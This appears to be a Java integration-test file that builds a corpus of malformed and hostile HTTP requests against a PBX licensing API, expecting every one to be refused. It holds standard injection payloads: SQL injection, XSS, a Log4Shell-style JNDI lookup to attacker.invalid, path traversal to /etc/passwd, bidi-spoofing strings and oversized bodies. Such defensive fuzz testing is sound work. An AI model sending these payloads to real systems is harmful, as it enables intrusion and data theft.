package org.pbxlicensing.it.reliability;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Consumer;

/**
 * Generates malformed requests for every endpoint of the HTTP contract: broken and hostile bodies,
 * every field of every body replaced by wrong types, injection strings, huge and negative values,
 * wrong methods and content types, bad path parameters and bad headers.
 *
 * <p>Every JSON body keeps at least one invalid part that is not the one being mutated (an unknown
 * registration number, a missing consent, an unknown feature), so no request of the corpus can
 * be a valid write: the right answer to each is a 4xx problem, and nothing may be written.
 *
 * <p>Text that would spoof or be read two ways has a named refusal: a lone surrogate escape in any
 * value or name, a name twice in one object at any depth, a direction control in any free-text field.
 */
final class HostileCorpus {

    /**
     * A request of the corpus; {@code success} lists the 2xx statuses the contract gives it anyway, and
     * {@code refusal}, where not null, the field error its {@code 400 VALIDATION_FAILED} must name.
     */
    record HostileRequest(String name, String method, String path, Map<String, String> headers, byte[] body,
            Set<Integer> success, FieldRefusal refusal) {
    }

    /** A field error as the problem's {@code errors} name it. */
    record FieldRefusal(String field, String code) {
    }

    static final String API = "/api/v1";
    static final String ENTITLEMENT = "/entitlement";
    static final String UNKNOWN_NUMBER = "MIKO-00000-00000-00000-00000";
    static final String UNKNOWN_COUPON = "MIKOUPD-00000-00000-00000-00000";

    private static final ObjectMapper JSON = new ObjectMapper();

    /** Unicode's direction controls: marks, embeddings, overrides and isolates. */
    static final String DIRECTION_CONTROLS = "\u061C\u200E\u200F\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069";
    /** Lone surrogates as JSON writes them: escapes, since UTF-8 cannot carry them. */
    static final List<String> LONE_SURROGATES = List.of("\\ud800x", "x\\udfff", "\\ude00\\ud83d");
    /** Stands in the serialised body for text that no serialiser writes; replaced after serialising. */
    private static final String PLACEHOLDER = "hostile-placeholder-7f3a";

    /** Values that are wrong wherever they stand. */
    static final List<Object> BAD_VALUES = List.of(
            "", " ", "\t\n", "x".repeat(10_000), "ж".repeat(30_000),
            -1, 0, Integer.MIN_VALUE, Long.MAX_VALUE, new BigInteger("1" + "0".repeat(40)), -1e308, 1.5,
            true, false, List.of(), List.of(1, 2), Map.of(), Map.of("$ne", 1),
            "'; DROP TABLE registration; --", "' OR '1'='1", "1 UNION SELECT password_hash FROM staff_user",
            "\\'; SELECT SLEEP(10); --", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
            "${jndi:ldap://attacker.invalid/a}", "#{facesContext.externalContext}", "%s%s%s%n",
            "\u0000", "\uD83D\uDE00\u202E\uFEFF", "../../../../etc/passwd", "NaN", "null");

    private final List<HostileRequest> requests = new ArrayList<>();

    static List<HostileRequest> generate(String storeKey) {
        var corpus = new HostileCorpus();
        corpus.jsonEndpoints(storeKey);
        corpus.entitlement();
        corpus.pathParameters();
        corpus.queries();
        corpus.wrongMethods();
        return corpus.requests;
    }

    /** An endpoint with a JSON body; {@code freeText} lists its fields of names and other free text. */
    private record JsonEndpoint(String name, String path, Map<String, String> headers, Map<String, Object> template,
            Map<String, Consumer<Map<String, Object>>> anchors, List<String> freeText) {

        JsonEndpoint(String name, String path, Map<String, String> headers, Map<String, Object> template,
                Map<String, Consumer<Map<String, Object>>> anchors) {
            this(name, path, headers, template, anchors, List.of());
        }

        /** Whether the server reads the body at all: a store order without the store's key is refused first. */
        boolean bodyRead() {
            return !path.equals(API + "/store/orders") || headers.containsKey("Authorization");
        }
    }

    private void jsonEndpoints(String storeKey) {
        Map<String, String> plain = Map.of();
        Map<String, String> store = Map.of("Authorization", "Bearer " + storeKey);
        List<JsonEndpoint> endpoints = List.of(
                new JsonEndpoint("registration", API + "/registrations", plain,
                        map("company", "ООО Ромашка", "contactPerson", "Иван Петров", "email", "hostile@example.com",
                                "phone", "+7 495 123-45-67", "taxId", "7701234567", "country", "RU",
                                "city", "Москва", "feature", 33, "consent", false),
                        Map.of("consent", body -> body.put("consent", false),
                                "email", body -> body.put("email", "not-an-email")),
                        List.of("company", "contactPerson", "country", "city")),
                new JsonEndpoint("activation", API + "/activations", plain,
                        map("registrationNumber", UNKNOWN_NUMBER, "feature", 33,
                                "host", map("id", "hostile-host", "name", "pbx", "os", "Linux", "productVersion", "1")),
                        Map.of("registrationNumber", body -> body.put("registrationNumber", UNKNOWN_NUMBER)),
                        List.of("host.name", "host.os", "host.productVersion")),
                new JsonEndpoint("check", API + "/checks", plain,
                        map("registrationNumber", UNKNOWN_NUMBER, "hostId", "hostile-host"),
                        Map.of("registrationNumber", body -> body.put("registrationNumber", UNKNOWN_NUMBER))),
                new JsonEndpoint("coupon activation", API + "/coupon-activations", plain,
                        map("registrationNumber", UNKNOWN_NUMBER, "coupon", UNKNOWN_COUPON),
                        Map.of("registrationNumber", body -> body.put("registrationNumber", UNKNOWN_NUMBER),
                                "coupon", body -> body.put("coupon", UNKNOWN_COUPON))),
                new JsonEndpoint("eula acceptance", API + "/eula-acceptances", plain,
                        map("registrationNumber", UNKNOWN_NUMBER, "hostId", "hostile-host", "version", "1.0"),
                        Map.of("registrationNumber", body -> body.put("registrationNumber", UNKNOWN_NUMBER))),
                new JsonEndpoint("reminder", API + "/registration-reminders", plain,
                        map("email", "not-an-email"),
                        Map.of("email", body -> body.put("email", "not-an-email"))),
                new JsonEndpoint("session", API + "/sessions", plain,
                        map("registrationNumber", UNKNOWN_NUMBER, "feature", 46,
                                "holder", map("host", "pbx", "user", "101", "process", "panel")),
                        Map.of("registrationNumber", body -> body.put("registrationNumber", UNKNOWN_NUMBER)),
                        List.of("holder.user", "holder.process")),
                new JsonEndpoint("store order", API + "/store/orders", store,
                        map("orderId", "hostile-order", "email", "shop@example.com",
                                "items", List.of(map("feature", 999_999, "seats", 1, "termMonths", 12))),
                        Map.of("items.feature", body -> firstItem(body).put("feature", 999_999),
                                "items.seats", body -> firstItem(body).put("seats", -5))),
                new JsonEndpoint("store order without key", API + "/store/orders", plain,
                        map("orderId", "hostile-order", "items", List.of(map("feature", 33, "seats", 1))),
                        Map.of()));
        for (JsonEndpoint endpoint : endpoints) {
            brokenBodies(endpoint.name(), endpoint.path(), endpoint.headers(), 64 * 1024);
            mutatedFields(endpoint);
            contentTypes(endpoint);
            headers(endpoint);
            if (endpoint.bodyRead()) {
                ambiguousJson(endpoint.name(), endpoint.path(), endpoint.headers(), endpoint.template(),
                        endpoint.anchors());
                directionControls(endpoint);
            }
        }
    }

    /** Lone surrogates in every string and in a name of every object; every member written twice. */
    private void ambiguousJson(String name, String path, Map<String, String> headers, Map<String, Object> template,
            Map<String, Consumer<Map<String, Object>>> anchors) {
        for (String field : fieldPaths(template, "")) {
            String refused = refusedPath(template, field);
            if (valueAt(template, field) instanceof String) {
                for (String surrogate : LONE_SURROGATES) {
                    Map<String, Object> body = anchored(template, anchors, field);
                    set(body, field, PLACEHOLDER);
                    add(name + ": " + field + " = \"" + surrogate + "\"", "POST", path, jsonHeaders(headers),
                            json(body, surrogate), new FieldRefusal(refused, "MALFORMED_JSON"));
                }
            }
            Map<String, Object> twice = anchored(template, anchors, field);
            int dot = field.lastIndexOf('.');
            Map<String, Object> parent = dot < 0 ? twice : objectAt(twice, field.substring(0, dot));
            Object value = valueAt(twice, field);
            parent.put(PLACEHOLDER, value instanceof String ? "other" : value);
            add(name + ": " + field + " twice", "POST", path, jsonHeaders(headers),
                    json(twice, field.substring(dot + 1)), new FieldRefusal(refused, "MALFORMED_JSON"));
        }
        for (String object : objectPaths(template, "")) {
            String member = object.isEmpty() ? PLACEHOLDER : object + "." + PLACEHOLDER;
            Map<String, Object> body = anchored(template, anchors, member);
            (object.isEmpty() ? body : objectAt(body, object)).put(PLACEHOLDER, 1);
            String refused = (object.isEmpty() ? "" : refusedPath(template, object)
                    + (valueAt(template, object) instanceof List<?> ? "[0]" : "") + ".") + "key\uFFFD";
            add(name + ": a lone surrogate in a name of " + (object.isEmpty() ? "the body" : object), "POST", path,
                    jsonHeaders(headers), json(body, "key\\ud800"), new FieldRefusal(refused, "MALFORMED_JSON"));
        }
    }

    /** Each direction control in each free-text field. */
    private void directionControls(JsonEndpoint endpoint) {
        for (String field : endpoint.freeText()) {
            for (char control : DIRECTION_CONTROLS.toCharArray()) {
                Map<String, Object> body = anchored(endpoint.template(), endpoint.anchors(), field);
                set(body, field, "office" + control + "exe.lper");
                add(endpoint.name() + ": " + field + " with " + String.format("U+%04X", (int) control), "POST",
                        endpoint.path(), jsonHeaders(endpoint.headers()), json(body),
                        new FieldRefusal(field, "INVALID_FORMAT"));
            }
        }
    }

    /** A copy of the template made invalid by an anchor away from {@code field}. */
    private static Map<String, Object> anchored(Map<String, Object> template,
            Map<String, Consumer<Map<String, Object>>> anchors, String field) {
        Map<String, Object> body = deepCopy(template);
        anchors.entrySet().stream()
                .filter(entry -> !field.startsWith(entry.getKey()) && !entry.getKey().startsWith(field))
                .findFirst().ifPresent(entry -> entry.getValue().accept(body));
        return body;
    }

    private void mutatedFields(JsonEndpoint endpoint) {
        for (String field : fieldPaths(endpoint.template(), "")) {
            for (Object bad : BAD_VALUES) {
                Map<String, Object> body = anchored(endpoint.template(), endpoint.anchors(), field);
                set(body, field, bad);
                add(endpoint.name() + ": " + field + " = " + describe(bad), "POST", endpoint.path(),
                        jsonHeaders(endpoint.headers()), json(body));
            }
            Map<String, Object> without = anchored(endpoint.template(), endpoint.anchors(), field);
            remove(without, field);
            add(endpoint.name() + ": without " + field, "POST", endpoint.path(), jsonHeaders(endpoint.headers()), json(without));
        }
    }

    private void contentTypes(JsonEndpoint endpoint) {
        byte[] body = json(endpoint.template());
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/json; charset=UTF-16", "image/png", "*/*",
                "garbage/////", "application/json; charset=nonsense")) {
            var headers = new HashMap<>(endpoint.headers());
            headers.put("Content-Type", type);
            add(endpoint.name() + ": content type " + type, "POST", endpoint.path(), headers, body);
        }
        var headers = new HashMap<>(endpoint.headers());
        headers.put("Content-Type", "");
        add(endpoint.name() + ": no content type", "POST", endpoint.path(), headers, body);
    }

    private void headers(JsonEndpoint endpoint) {
        byte[] body = json(endpoint.template());
        Map<String, List<String>> hostile = Map.of(
                "Idempotency-Key", List.of("", " ", "k".repeat(300), "k".repeat(8_000), "'; DROP TABLE idempotency_record; --",
                        "<script>alert(1)</script>", "a,b,c"),
                "Accept-Language", List.of("", "*", "xx-YY", "ru;q=abc", ";;;;,,,", "en-US,en;q=0.9," + "ru;q=0.1,".repeat(500),
                        "<script>"),
                "Accept", List.of("application/xml", "text/html", "image/png", "application/json;q=0", "garbage/////"),
                "X-Forwarded-For", List.of("not-an-address", "999.999.999.999", "::::::::", "1.2.3.4, " + "5.6.7.8, ".repeat(500),
                        "' OR 1=1 --"),
                "Authorization", List.of("Bearer", "Bearer " + "x".repeat(8_000), "Basic YWRtaW46YWRtaW4=", "Bearer ' OR '1'='1"));
        hostile.forEach((name, values) -> {
            for (String value : values) {
                var headers = jsonHeaders(endpoint.headers());
                headers.put(name, value);
                add(endpoint.name() + ": header " + name + " = " + abbreviate(value), "POST", endpoint.path(), headers, body);
            }
        });
    }

    private void brokenBodies(String name, String path, Map<String, String> headers, int limit) {
        List<Map.Entry<String, byte[]>> bodies = new ArrayList<>();
        for (String text : List.of("company=ACME", "{\"registrationNumber\": \"MIKO", "[1,2,3]", "\"hello\"", "null",
                "", "   ", "{}", "{}{}", "{} trailing", "{'single': 'quotes'}", "/* comment */ {}", "{\"a\": NaN}",
                "{\"a\": Infinity}", "{\"a\": 1e999999999}", "{\"a\": -1e999999999}", "{\"a\": 0x1F}", "{\"a\": 01}",
                "{\"a\": .5}", "{\"a\": \"\\uD800\"}", "{\"a\": \"\\u00\"}", "{\"a\" \"b\"}", "{\"a\":}", "{,}", "{\"a\":1,}",
                "{\"registrationNumber\": \"A\", \"registrationNumber\": 5}", "\uFEFF{}", "{\"a\": \"\u0000\"}",
                "{\"" + "k".repeat(5_000) + "\": 1}", "{\"n\": " + "9".repeat(5_000) + "}")) {
            bodies.add(Map.entry(abbreviate(text), text.getBytes(StandardCharsets.UTF_8)));
        }
        bodies.add(Map.entry("deep arrays", ("{\"a\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}").getBytes(StandardCharsets.UTF_8)));
        bodies.add(Map.entry("deep objects", ("{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000)).getBytes(StandardCharsets.UTF_8)));
        bodies.add(Map.entry("many keys", manyKeys(3_000)));
        bodies.add(Map.entry("body just over the limit", filled(limit + 1)));
        bodies.add(Map.entry("one mebibyte", filled(1024 * 1024)));
        bodies.add(Map.entry("UTF-16", "{\"a\": \"b\"}".getBytes(StandardCharsets.UTF_16)));
        for (byte[] invalid : List.of(
                new byte[] {(byte) 0xC3, (byte) 0x28}, new byte[] {(byte) 0x80}, new byte[] {(byte) 0xC0, (byte) 0xAF},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF5, (byte) 0x80, (byte) 0x80, (byte) 0x80},
                new byte[] {(byte) 0xE2, (byte) 0x82}, new byte[] {(byte) 0xFF, (byte) 0xFE})) {
            bodies.add(Map.entry("invalid UTF-8 " + Arrays.toString(invalid), utf8Around(invalid)));
        }
        for (var body : bodies) {
            add(name + ": body " + body.getKey(), "POST", path, jsonHeaders(headers), body.getValue());
        }
    }

    private void entitlement() {
        brokenBodies("entitlement", ENTITLEMENT, Map.of(), 2 * 1024 * 1024);
        Map<String, Object> template = map("request", "eyJ2IjoyfQ", "sig", "AAAA");
        for (String field : List.of("request", "sig")) {
            for (Object bad : BAD_VALUES) {
                Map<String, Object> body = deepCopy(template);
                body.put(field, bad);
                add("entitlement: " + field + " = " + describe(bad), "POST", ENTITLEMENT, jsonHeaders(Map.of()), json(body));
            }
        }
        ambiguousJson("entitlement", ENTITLEMENT, Map.of(), template, Map.of());
        // The signed request is read before its signature is checked, so its own names count too.
        Map<String, String> signedRequests = Map.of("v", "{\"v\": 2, \"nonce\": \"n\", \"v\": 2}",
                "app.id", "{\"v\": 2, \"app\": {\"id\": \"\\udc00\"}}");
        signedRequests.forEach((field, request) -> add("entitlement: signed request " + request, "POST", ENTITLEMENT,
                jsonHeaders(Map.of()), json(map("request", Base64.getUrlEncoder().withoutPadding()
                        .encodeToString(request.getBytes(StandardCharsets.UTF_8)), "sig", "AAAA")),
                new FieldRefusal(field, "MALFORMED_JSON")));
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "")) {
            add("entitlement: content type " + type, "POST", ENTITLEMENT, Map.of("Content-Type", type), json(template));
        }
        for (String method : List.of("GET", "PUT", "DELETE", "PATCH")) {
            add("entitlement: " + method, method, ENTITLEMENT, Map.of(), null);
        }
    }

    private void pathParameters() {
        List<String> values = new ArrayList<>();
        for (Object bad : BAD_VALUES) {
            String text = String.valueOf(bad);
            if (!text.isBlank() && text.length() <= 10_000) {
                values.add(text);
            }
        }
        values.addAll(List.of("%", "..", "a/b", "a;b=c", "\u0430\u0431\u0432", "MIKO-" + "0".repeat(3_000)));
        List<String> segments = new ArrayList<>();
        for (String value : values) {
            segments.add(URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20"));
        }
        // Encodings a client could send raw: a NUL, dots, a slash, invalid UTF-8.
        segments.addAll(List.of("%00", "%2e%2e", "a%2Fb", "MIKO-00000-00000-00000-0000%C3%28", "%FF%FE"));
        for (String segment : segments) {
            String label = abbreviate(segment);
            add("bindings of " + label, "GET", API + "/registrations/" + segment + "/bindings", Map.of(), null);
            add("release " + label, "DELETE", API + "/registrations/" + segment + "/bindings/hostile-host", Map.of(), null);
            add("release host " + label, "DELETE", API + "/registrations/" + UNKNOWN_NUMBER + "/bindings/" + segment,
                    Map.of(), null);
            add("heartbeat " + label, "PUT", API + "/sessions/" + segment, Map.of(), null);
            // Releasing a session always answers 204, so that a retried release is harmless.
            add("session release " + label, "DELETE", API + "/sessions/" + segment, Map.of(), null, Set.of(204));
        }
    }

    private void queries() {
        for (Object bad : BAD_VALUES) {
            String text = String.valueOf(bad);
            if (text.length() > 10_000) {
                continue;
            }
            add("eula of feature " + describe(bad), "GET",
                    API + "/eula?feature=" + URLEncoder.encode(text, StandardCharsets.UTF_8), Map.of(), null);
        }
        add("eula without feature", "GET", API + "/eula?feature", Map.of(), null);
        // A repeated query parameter counts with its first value, as JAX-RS reads it.
        add("eula with a feature and then garbage", "GET", API + "/eula?feature=33&feature=abc", Map.of(), null,
                Set.of(200));
        add("eula with garbage and then a feature", "GET", API + "/eula?feature=abc&feature=33", Map.of(), null);
        for (String language : List.of("", "*", "xx", "ru;q=abc", "<script>", ";;;")) {
            add("eula in language " + language, "GET", API + "/eula?feature=33", Map.of("Accept-Language", language),
                    null, Set.of(200));
        }
        add("ping with a query", "GET", API + "/ping?x=%3Cscript%3E&x=%27--", Map.of(), null, Set.of(200));
        add("keys with a query", "GET", API + "/keys?kid=%27%20OR%201%3D1", Map.of(), null, Set.of(200));
        add("unknown path", "GET", API + "/registrations/%3Cscript%3E", Map.of(), null);
        add("unknown version", "GET", "/api/v2/ping", Map.of(), null);
        add("unknown api path", "POST", API + "/admin", Map.of(), json(Map.of()));
    }

    private void wrongMethods() {
        Map<String, Set<String>> allowed = new LinkedHashMap<>();
        allowed.put(API + "/registrations", Set.of("POST"));
        allowed.put(API + "/activations", Set.of("POST"));
        allowed.put(API + "/checks", Set.of("POST"));
        allowed.put(API + "/coupon-activations", Set.of("POST"));
        allowed.put(API + "/eula-acceptances", Set.of("POST"));
        allowed.put(API + "/registration-reminders", Set.of("POST"));
        allowed.put(API + "/sessions", Set.of("POST"));
        allowed.put(API + "/store/orders", Set.of("POST"));
        allowed.put(API + "/registrations/" + UNKNOWN_NUMBER + "/bindings", Set.of("GET"));
        allowed.put(API + "/registrations/" + UNKNOWN_NUMBER + "/bindings/hostile-host", Set.of("DELETE"));
        allowed.put(API + "/sessions/hostile-session", Set.of("PUT", "DELETE"));
        allowed.put(API + "/eula", Set.of("GET"));
        allowed.put(API + "/keys", Set.of("GET"));
        allowed.put(API + "/ping", Set.of("GET"));
        allowed.forEach((path, methods) -> {
            for (String method : List.of("GET", "POST", "PUT", "DELETE", "PATCH")) {
                if (!methods.contains(method)) {
                    add(method + " " + path, method, path, jsonHeaders(Map.of()),
                            method.equals("GET") || method.equals("DELETE") ? null : "{}".getBytes(StandardCharsets.UTF_8));
                }
            }
        });
    }

    private void add(String name, String method, String path, Map<String, String> headers, byte[] body) {
        add(name, method, path, headers, body, Set.of());
    }

    private void add(String name, String method, String path, Map<String, String> headers, byte[] body,
            Set<Integer> success) {
        requests.add(new HostileRequest(name, method, path, headers, body, success, null));
    }

    private void add(String name, String method, String path, Map<String, String> headers, byte[] body,
            FieldRefusal refusal) {
        requests.add(new HostileRequest(name, method, path, headers, body, Set.of(), refusal));
    }

    private static Map<String, String> jsonHeaders(Map<String, String> headers) {
        var all = new HashMap<String, String>();
        all.put("Content-Type", "application/json");
        all.putAll(headers);
        return all;
    }

    private static byte[] json(Object value) {
        try {
            return JSON.writeValueAsBytes(value);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The value as JSON with {@code raw} written where the placeholder stands, as a name or a string. */
    private static byte[] json(Object value, String raw) {
        try {
            return JSON.writeValueAsString(value).replace(PLACEHOLDER, raw).getBytes(StandardCharsets.UTF_8);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static Map<String, Object> map(Object... keysAndValues) {
        var map = new LinkedHashMap<String, Object>();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            map.put((String) keysAndValues[i], keysAndValues[i + 1]);
        }
        return map;
    }

    /** Dotted paths of every field, nested ones too ({@code host.id}, {@code items.feature} for the first item). */
    private static List<String> fieldPaths(Map<String, Object> body, String prefix) {
        List<String> paths = new ArrayList<>();
        body.forEach((key, value) -> {
            paths.add(prefix + key);
            if (value instanceof Map<?, ?> nested) {
                paths.addAll(fieldPaths(cast(nested), prefix + key + "."));
            } else if (value instanceof List<?> list && !list.isEmpty() && list.get(0) instanceof Map<?, ?> item) {
                paths.addAll(fieldPaths(cast(item), prefix + key + "."));
            }
        });
        return paths;
    }

    /** Dotted paths of every object: the body's ({@code ""}) and the nested ones, first items of lists. */
    private static List<String> objectPaths(Map<String, Object> body, String prefix) {
        List<String> paths = new ArrayList<>();
        paths.add(prefix.isEmpty() ? "" : prefix.substring(0, prefix.length() - 1));
        body.forEach((key, value) -> {
            if (value instanceof Map<?, ?> nested) {
                paths.addAll(objectPaths(cast(nested), prefix + key + "."));
            } else if (value instanceof List<?> list && !list.isEmpty() && list.get(0) instanceof Map<?, ?> item) {
                paths.addAll(objectPaths(cast(item), prefix + key + "."));
            }
        });
        return paths;
    }

    /** A dotted path as the server names the field: the first item of a list is {@code items[0]}. */
    private static String refusedPath(Map<String, Object> body, String path) {
        int dot = path.indexOf('.');
        if (dot < 0) {
            return path;
        }
        String key = path.substring(0, dot);
        return key + (body.get(key) instanceof List<?> ? "[0]." : ".")
                + refusedPath(child(body, key), path.substring(dot + 1));
    }

    /** The object at a dotted path; the first item where the path names a list. */
    private static Map<String, Object> objectAt(Map<String, Object> body, String path) {
        int dot = path.indexOf('.');
        return dot < 0 ? child(body, path) : objectAt(child(body, path.substring(0, dot)), path.substring(dot + 1));
    }

    private static Object valueAt(Map<String, Object> body, String path) {
        int dot = path.indexOf('.');
        return dot < 0 ? body.get(path) : valueAt(child(body, path.substring(0, dot)), path.substring(dot + 1));
    }

    private static void set(Map<String, Object> body, String path, Object value) {
        int dot = path.indexOf('.');
        if (dot < 0) {
            body.put(path, value);
        } else {
            set(child(body, path.substring(0, dot)), path.substring(dot + 1), value);
        }
    }

    private static void remove(Map<String, Object> body, String path) {
        int dot = path.indexOf('.');
        if (dot < 0) {
            body.remove(path);
        } else {
            remove(child(body, path.substring(0, dot)), path.substring(dot + 1));
        }
    }

    private static Map<String, Object> child(Map<String, Object> body, String key) {
        Object value = body.get(key);
        return cast(value instanceof List<?> list ? list.get(0) : value);
    }

    private static Map<String, Object> firstItem(Map<String, Object> body) {
        return cast(((List<?>) body.get("items")).get(0));
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> cast(Object value) {
        return (Map<String, Object>) value;
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> deepCopy(Map<String, Object> template) {
        try {
            return JSON.readValue(JSON.writeValueAsBytes(template), LinkedHashMap.class);
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] utf8Around(byte[] invalid) {
        byte[] start = "{\"registrationNumber\": \"".getBytes(StandardCharsets.UTF_8);
        byte[] end = "\", \"email\": \"a@b.c\"}".getBytes(StandardCharsets.UTF_8);
        byte[] body = new byte[start.length + invalid.length + end.length];
        System.arraycopy(start, 0, body, 0, start.length);
        System.arraycopy(invalid, 0, body, start.length, invalid.length);
        System.arraycopy(end, 0, body, start.length + invalid.length, end.length);
        return body;
    }

    private static byte[] filled(int size) {
        byte[] body = new byte[size];
        Arrays.fill(body, (byte) ' ');
        body[0] = '[';
        body[size - 1] = ']';
        return body;
    }

    private static byte[] manyKeys(int count) {
        var text = new StringBuilder("{");
        for (int i = 0; i < count; i++) {
            text.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":").append(i);
        }
        return text.append('}').toString().getBytes(StandardCharsets.UTF_8);
    }

    private static String describe(Object value) {
        return value instanceof String text ? "\"" + abbreviate(text) + "\"" : abbreviate(String.valueOf(value));
    }

    private static String abbreviate(String text) {
        return text.length() <= 40 ? text : text.substring(0, 37) + "…(" + text.length() + ")";
    }
}
